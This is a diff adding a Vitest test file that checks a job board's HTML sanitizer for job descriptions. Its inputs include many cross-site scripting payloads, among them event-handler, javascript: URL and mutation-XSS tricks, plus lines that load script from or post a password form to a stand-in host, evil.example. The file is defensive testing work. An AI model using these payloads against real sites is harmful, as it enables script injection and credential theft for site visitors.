@@ -1,0 +1,83 @@
+import { describe, expect, it } from 'vitest';
+import { newOrganization } from '../../../test/app.ts';
+import { eventsOf, issuePaths, postJob, readJob } from '../../../test/jobs.ts';
+
+describe('the description of a job', () => {
+  it.each([
+    ['<p>Plain</p>', '<p>Plain</p>'],
+    ['Plain', '<p>Plain</p>'],
+    ['<h1>A</h1><ul><li>b</li></ul>', '<h1>A</h1><ul><li><p>b</p></li></ul>'],
+    ['<p>a < b & c</p>', '<p>a &lt; b &amp; c</p>'],
+    ['<p onclick="x()" class="y" id="z">A</p>', '<p>A</p>'],
+    ['<b>A</b><i>B</i>', '<p><strong>A</strong><em>B</em></p>'],
+    ['', ''],
+    ['<script>alert(1)</script>', ''],
+  ])('%j is kept as %j', async (given, kept) => {
+    const organization = await newOrganization();
+    const job = await postJob(organization, { description: given });
+    expect(job.description).toBe(kept);
+    expect((await readJob(organization, job.id)).description).toBe(kept);
+  });
+
+  it.each([
+    '<p>A</p><script src="https://evil.example/x.js"></script>',
+    '<img src=x onerror=alert(1)>A',
+    '<p><a href="javascript:alert(1)">A</a></p>',
+    '<p><a href="jAvA&#x0A;scrIpt:alert(1)">A</a></p>',
+    '<p><a href="data:text/html,<script>alert(1)</script>">A</a></p>',
+    '<svg><g onload="alert(1)"></g></svg>A',
+    '<svg><script>alert(1)</script></svg>A',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">A',
+    '<p style="background: url(javascript:alert(1)); position: fixed">A</p>',
+    '<iframe src="javascript:alert(1)"></iframe>A',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>A',
+    '<form action="https://evil.example"><input name="password"><button>A</button></form>',
+    '<style>body{display:none}</style>A',
+    '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">A',
+    '<object data="x.swf"></object><embed src="x.swf">A',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">A</noscript>',
+    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">A',
+    '<!--[if IE]><script>alert(1)</script><![endif]-->A',
+    '<<script>script>alert(1)<</script>/script>A',
+    '<p title="&quot;><script>alert(1)</script>">A</p>',
+    '<template><script>alert(1)</script></template>A',
+    '<a href="https://a.example" onmouseover="alert(1)" ping="https://evil.example">A</a>',
+  ])('%s loses what could harm, and reads back unchanged', async (attack) => {
+    const organization = await newOrganization();
+    const job = await postJob(organization, { description: `<p>Kept</p>${attack}` });
+    const description = job.description ?? '';
+    const tags = (description.match(/<[^>]*>/g) ?? []).join('').toLowerCase();
+    expect(tags).not.toMatch(
+      /<(script|style|svg|math|form|input|object|embed|base|meta|template|textarea|noscript)/,
+    );
+    expect(tags).not.toMatch(/\son\w+=|javascript:|data:|srcdoc|position|evil\.example|ping=/);
+    expect(description).toMatch(/^<p>Kept<\/p>/);
+
+    const answer = await organization.patch(`/jobs/${job.id}`, { description });
+    expect(answer.body.data).toEqual(job);
+    expect(await eventsOf(organization)).toHaveLength(1);
+  });
+
+  it('keeps what the content of a page may have', async () => {
+    const organization = await newOrganization();
+    const html =
+      '<h2 style="text-align: center">Title</h2><p>a<br>b <strong>c</strong> <em>d</em> <s>e</s> <code>f</code></p>' +
+      '<ul><li><p>g</p></li></ul><ol><li><p>h</p></li></ol><blockquote><p>i</p></blockquote>' +
+      '<pre><code>j</code></pre><hr>';
+    const job = await postJob(organization, { description: html });
+    expect(job.description).toBe(html);
+  });
+
+  it('too complex to keep is refused with its place', async () => {
+    const organization = await newOrganization();
+    const deep = `${'<blockquote>'.repeat(300)}A${'</blockquote>'.repeat(300)}`;
+    expect(issuePaths(await organization.post('/jobs', { title: 'A', description: deep }))).toEqual([
+      '/description',
+    ]);
+    const many = '<br>a'.repeat(15_000);
+    expect(issuePaths(await organization.post('/jobs', { title: 'A', description: many }))).toEqual([
+      '/description',
+    ]);
+    expect(await eventsOf(organization)).toEqual([]);
+  });
+});
